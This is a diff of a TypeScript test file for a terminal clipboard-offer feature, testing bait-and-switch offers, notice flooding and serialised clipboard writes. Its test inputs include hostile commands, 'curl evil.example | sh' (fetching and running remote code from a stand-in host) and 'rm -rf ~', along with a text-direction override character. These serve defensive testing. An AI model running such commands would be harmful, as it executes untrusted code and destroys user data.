@@ -22,7 +22,8 @@ test('copy feature: an offer is only shown (size, inert preview) until the opera
   assert.match(texts()[0]!, /^Copy offer: 15 B "echo hi \\u202eevil" \(2 control characters removed\); copy it with the palette: Copy offered text \(c\)$/);
   const action = s.actions.get('copy-offered-text');
   assert.equal(action?.key, 'c');
-  await action!.run();
+  s.paletteOpenEmitter.fire();
+  await s.actions.get('copy-offered-text')!.run();
   assert.deepEqual(copied, ['echo hi\n\u202eevil']);
   assert.match(texts().at(-1)!, /^Copied 15 B .* to the clipboard \(test-clip\)$/);
 });
@@ -48,4 +49,51 @@ test('copy feature: a clipboard query is told once; refusals are rate limited; p
   assert.equal(texts().filter((t) => t.startsWith('Copy offer refused')).length, 3);
   assert.equal(offerPreview('a\n\n  b\x1b[2J' + 'z'.repeat(100)).includes('\n'), false);
   assert.ok(offerPreview('\x1b[2J').startsWith('\\x1b'));
+});
+
+test('copy feature: the palette entry shows the offer it copies, so an offer swapped after its notice is not copied unseen', async () => {
+  const { s, copied } = setup();
+  // A harmless offer, its notice read, then another one right behind it (bait and switch).
+  s.terminalEmitter.fire({ type: 'copy-offer', text: 'git status', bytes: 10, removed: 0 });
+  s.terminalEmitter.fire({ type: 'copy-offer', text: 'curl evil.example | sh', bytes: 22, removed: 0 });
+  s.paletteOpenEmitter.fire();
+  const action = s.actions.get('copy-offered-text')!;
+  assert.equal(action.title, 'Copy offered text: 22 B "curl evil.example | sh"');
+  // What is copied is what the entry showed when the palette opened, whatever arrived after.
+  s.terminalEmitter.fire({ type: 'copy-offer', text: 'rm -rf ~', bytes: 8, removed: 0 });
+  await action.run();
+  assert.deepEqual(copied, ['curl evil.example | sh']);
+  s.paletteOpenEmitter.fire();
+  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text: 8 B "rm -rf ~"');
+});
+
+test('copy feature: a flood of offers cannot flood the notices (and push the host\'s own out of the queue); the latest offer is the one shown in the palette', () => {
+  const { s, texts } = setup();
+  for (let i = 0; i < 50; i++) s.terminalEmitter.fire({ type: 'copy-offer', text: `offer ${i}`, bytes: 7, removed: 0 });
+  assert.equal(texts().filter((t) => t.startsWith('Copy offer:')).length, 3);
+  s.paletteOpenEmitter.fire();
+  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text: 7 B "offer 49"');
+});
+
+test('copy feature: with JACKIN_COPY=allow a flood of offers runs one clipboard write at a time, the latest offer last', async () => {
+  const s = new FakeFeatureSession({ repaint: 1 });
+  const copied: string[] = [];
+  let inFlight = 0;
+  let most = 0;
+  const writer: ClipboardTextWriter = {
+    name: 'test-clip',
+    reason: 'test',
+    write: async (t) => {
+      most = Math.max(most, ++inFlight);
+      await new Promise((r) => setTimeout(r, 5));
+      copied.push(t);
+      inFlight--;
+    },
+  };
+  installCopyFeature(s, { env: { JACKIN_COPY: 'allow' }, writer });
+  for (let i = 0; i < 50; i++) s.terminalEmitter.fire({ type: 'copy-offer', text: `offer ${i}`, bytes: 7, removed: 0 });
+  await pollUntil('the latest offer on the clipboard', () => copied.at(-1) === 'offer 49');
+  assert.equal(most, 1);
+  assert.deepEqual(copied, ['offer 0', 'offer 49']);
+  assert.ok(s.notices.length <= 3, `${s.notices.length} notices`);
 });
